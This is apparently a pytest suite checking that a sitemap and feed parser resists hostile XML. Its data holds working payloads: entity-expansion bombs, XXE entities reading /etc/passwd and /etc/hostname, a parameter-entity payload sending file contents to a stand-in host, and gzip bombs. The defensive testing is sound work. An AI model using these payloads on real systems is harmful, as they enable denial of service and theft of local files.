"""Files that attack readers of XML: none opens a file or a connection, takes over a second of CPU,
or 50 MiB.
"""

from __future__ import annotations

import builtins
import gzip
import io
import os
import resource
import socket
import zlib
from collections.abc import Callable
from functools import lru_cache

import pytest
from crawlkit.rules.feeds.sitemaps import parse

from tests.cputime import within

pytestmark = pytest.mark.waits

U = "http://site.example/sitemap.xml"
SIZE = 1024 * 1024
ENTRY = (
    "<urlset><url><loc>http://site.example/{}</loc></url><url><loc>http://site.example/a</loc>"
    "</url></urlset>"
)
FEED = (
    "<rss><channel><item><title>{0}</title><link>http://site.example/{0}</link></item><item>"
    "<link>http://site.example/a</link></item></channel></rss>"
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
REMOTE = "http://127.0.0.1:9/x.dtd"
FILE = "file:///etc/hostname"
GOOD = "<url><loc>http://site.example/a</loc></url>"


def dtd(declarations: str, use: str = "x", name: str = "x", body: str = ENTRY) -> bytes:
    return f"<?xml version='1.0'?><!DOCTYPE {name} [{declarations}]>{body.format(use)}".encode()


@lru_cache
def bomb(size: int) -> bytes:
    return gzip.compress(f"<urlset>{GOOD}".encode() + b" " * size, 5)


# Files in which the plain entry /a is to be found all the same.
WITH_ENTRY: dict[str, bytes | Callable[[], bytes]] = {
    # expansion
    "billion laughs": dtd(f'<!ENTITY l0 "ha">{LAUGHS}', "&l11;"),
    "billion laughs in a feed": dtd(f'<!ENTITY l0 "ha">{LAUGHS}', "&l11;", body=FEED),
    "billion laughs in an attribute": dtd(
        f'<!ENTITY l0 "ha">{LAUGHS}', "x", body=ENTRY.replace("<url>", "<url a='&l11;'>")
    ),
    "quadratic blow-up": dtd(f'<!ENTITY q "{"a" * 50_000}">', "&q;" * 3_000),
    "parameter entities that double": dtd(
        "<!ENTITY % a 'x'>"
        + "".join(f"<!ENTITY % {chr(98 + n)} '%{chr(97 + n)};%{chr(97 + n)};'>" for n in range(20))
        + "%u;"
    ),
    "entity of entities": dtd(
        "".join(f"<!ENTITY e{n} '&e{n + 1};'>" for n in range(3_000)) + "<!ENTITY e3000 'x'>",
        "&e0;",
    ),
    "character references by the thousand": dtd("", "&#120;" * 8_000),
    "huge character reference": dtd("", "&#" + "9" * 50_000 + ";"),
    "invalid character references": dtd("", "&#0;&#xD800;&#x110000;&#xFFFFFFFF;"),
    "named references without end": dtd("", "&amp;" * 10_000),
    "attribute defaults": dtd(
        "<!ATTLIST loc " + "".join(f"a{n} CDATA 'x' " for n in range(2_000)) + ">"
    ),
    "element declarations": dtd("<!ELEMENT urlset (" + "(" * 10_000 + ")" * 10_000 + ")>"),
    "notations": dtd(
        "<!NOTATION n SYSTEM 'file:///bin/sh'><!ENTITY u SYSTEM 'file:///bin/sh' NDATA n>", "&u;"
    ),
    "conditional sections": dtd("<![INCLUDE[<!ENTITY a 'b'>]]><![IGNORE[x]]>", "&a;"),
    # recursion
    "entity of itself": dtd("<!ENTITY a '&a;'>", "&a;"),
    "entities of each other": dtd("<!ENTITY a '&b;'><!ENTITY b '&a;'>", "&a;"),
    "parameter entity of itself": dtd("<!ENTITY % p '%p;'>%p;"),
    # external
    "external subset": f"<!DOCTYPE urlset SYSTEM '{REMOTE}'>{ENTRY.format('x')}".encode(),
    "external public subset": (
        f"<!DOCTYPE urlset PUBLIC '-//X//Y' '{REMOTE}'>{ENTRY.format('x')}".encode()
    ),
    "external subset from a file": (
        f"<!DOCTYPE urlset SYSTEM '{FILE}' [<!ENTITY a 'b'>]>{ENTRY.format('&a;')}".encode()
    ),
    "external entity, file": dtd(f"<!ENTITY a SYSTEM '{FILE}'>", "&a;"),
    "external entity, relative": dtd("<!ENTITY a SYSTEM '../../../../etc/passwd'>", "&a;"),
    "external entity, network": dtd(f"<!ENTITY a SYSTEM '{REMOTE}'>", "&a;"),
    "external entity, public": dtd(f"<!ENTITY a PUBLIC 'p' '{REMOTE}'>", "&a;"),
    "external entity in a feed": dtd(f"<!ENTITY a SYSTEM '{FILE}'>", "&a;", "rss", FEED),
    "external entity, device": dtd("<!ENTITY a SYSTEM 'file:///dev/zero'>", "&a;"),
    "external entity, share": dtd(r"<!ENTITY a SYSTEM '\\127.0.0.1\share\x'>", "&a;"),
    "external entity, php": dtd(
        "<!ENTITY a SYSTEM 'php://filter/read=convert.base64-encode/resource=/etc/passwd'>", "&a;"
    ),
    "external entity, jar": dtd(f"<!ENTITY a SYSTEM 'jar:{REMOTE}!/x'>", "&a;"),
    "parameter entity, network": dtd(f"<!ENTITY % p SYSTEM '{REMOTE}'>%p;"),
    "parameter entity that carries a file away": dtd(
        f"<!ENTITY % f SYSTEM '{FILE}'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM"
        f" '{REMOTE}?%f;'>\">%e;%s;"
    ),
    "xinclude": (
        ENTRY.format("x")
        .replace(
            "<urlset>",
            f"<urlset xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{FILE}'"
            " parse='text'/>",
        )
        .encode()
    ),
    "style sheet": (
        f"<?xml-stylesheet type='text/xsl' href='{REMOTE}'?>{ENTRY.format('x')}".encode()
    ),
    "schema location": (
        ENTRY.format("x")
        .replace(
            "<urlset>",
            "<urlset xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='x"
            f" {REMOTE}'>",
        )
        .encode()
    ),
    "xml:base elsewhere": (
        ENTRY.format("x").replace("<urlset>", f"<urlset xml:base='{FILE}'>").encode()
    ),
    # what may be taken for the end
    "quotes in a DTD": dtd("<!ENTITY q \"]>\"><!ENTITY r ']>'>"),
    "comment in a DTD": dtd("<!-- ' \" --><!-- ' \" -->"),
    "second document type": (
        f"<!DOCTYPE x><!DOCTYPE y SYSTEM '{REMOTE}'>{ENTRY.format('x')}".encode()
    ),
    "CDATA of markup": ENTRY.format("<![CDATA[<loc>]]&gt;]]>").encode(),
    # unpacking
    "gzip bomb": lambda: bomb(60 * 1024 * 1024),
    "gzip in gzip": lambda: gzip.compress(bomb(60 * 1024 * 1024)),
    "many members": lambda: bomb(10) + gzip.compress(b"") * 30_000,
}
# Files that hold nothing but the attack.
BARE: dict[str, Callable[[], bytes]] = {
    "DTD without end": lambda: b"<!DOCTYPE x [" + b"<!ENTITY a 'b'>" * (SIZE // 15),
    "quote without end in a DTD": lambda: b"<!DOCTYPE x [<!ENTITY a '" + b"a" * SIZE,
    "gzip in gzip in gzip": lambda: gzip.compress(gzip.compress(bomb(60 * 1024 * 1024))),
    "zlib": lambda: zlib.compress(b" " * SIZE * 20),
    "comments without end": lambda: b"<urlset>" + b"<!--" * (SIZE // 4),
    "comments": lambda: b"<urlset>" + b"<!---->" * (SIZE // 7),
    "CDATA without end": lambda: b"<urlset><url><loc>" + b"<![CDATA[" * (SIZE // 9),
    "CDATA sections": lambda: b"<urlset><url><loc>" + b"<![CDATA[a]]>" * (SIZE // 13),
    "instructions": lambda: b"<urlset>" + b"<?a?>" * (SIZE // 5),
    "declarations": lambda: b"<urlset>" + b"<!x" * (SIZE // 3),
    "angles": lambda: b"<urlset>" + b"<" * SIZE,
    "attributes without end": lambda: b"<urlset><url " + b'a="b" ' * (SIZE // 6),
    "quotes without end": lambda: b'<urlset><url "' + b"a" * SIZE,
    "one name": lambda: b"<urlset><" + b"a" * SIZE + b">",
    "prefixes": lambda: b"<urlset>" + b"<a:a:a:" * (SIZE // 7),
    "deep, other tags": lambda: b"<urlset>" + b"<a>" * (SIZE // 3),
    "deep, own tags": lambda: b"<urlset>" + b"<url>" * (SIZE // 5),
    "deep feed": lambda: b"<rss><channel>" + b"<item>" * (SIZE // 6),
    "deep channels": lambda: b"<channel>" * (SIZE // 9),
    "deep entries": lambda: b"<feed>" + b"<entry xml:base='a/'>" * (SIZE // 21),
    "index of itself": lambda: (
        b"<sitemapindex>"
        + b"<sitemap><loc>http://site.example/sitemap.xml</loc></sitemap>" * (SIZE // 62)
    ),
    "one address again and again": lambda: (
        b"<urlset>" + b"<url><loc>http://site.example/a?b</loc></url>" * (SIZE // 45)
    ),
    "spaces": lambda: b" " * SIZE,
    "ends of lines": lambda: b"\n" * SIZE,
    "one line of text": lambda: b"http://site.example/" + b"a" * SIZE,
    "lines that are no addresses": lambda: b"http://site.example/a b\n" * (SIZE // 24),
    "wide characters without end": lambda: "<urlset>".encode("utf-16") + b"\0" * SIZE,
    "escapes of utf-7": lambda: (
        b"<?xml version='1.0' encoding='utf-7'?>" + b"+ADw-urlset+AD4-" * (SIZE // 16)
    ),
}
assert len(WITH_ENTRY) + len(BARE) >= 40


def forbidden(*args, **kwargs):
    raise AssertionError(f"opened: {args}")


@pytest.mark.parametrize("name", [*WITH_ENTRY, *BARE])
def test_attack(name, monkeypatch):
    given = WITH_ENTRY.get(name) or BARE[name]
    body = given if isinstance(given, bytes) else given()
    parse(
        "<urlset><url><loc>&#xD800;</loc></url></urlset>".encode("utf-16"), U
    )  # what is loaded at the first use
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with monkeypatch.context() as patch:
        for place, what in (
            (builtins, "open"),
            (io, "open"),
            (os, "open"),
            (socket.socket, "connect"),
            (socket, "getaddrinfo"),
        ):
            patch.setattr(place, what, forbidden)
        found = within(1, lambda: parse(body, U))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024
    assert found.decoded_bytes <= 50 * 1024 * 1024
    urls = [entry.url for entry in found.entries]
    if name in WITH_ENTRY:
        assert "http://site.example/a" in urls
    assert not any("hostname" in url or "127.0.0.1" in url for url in urls)
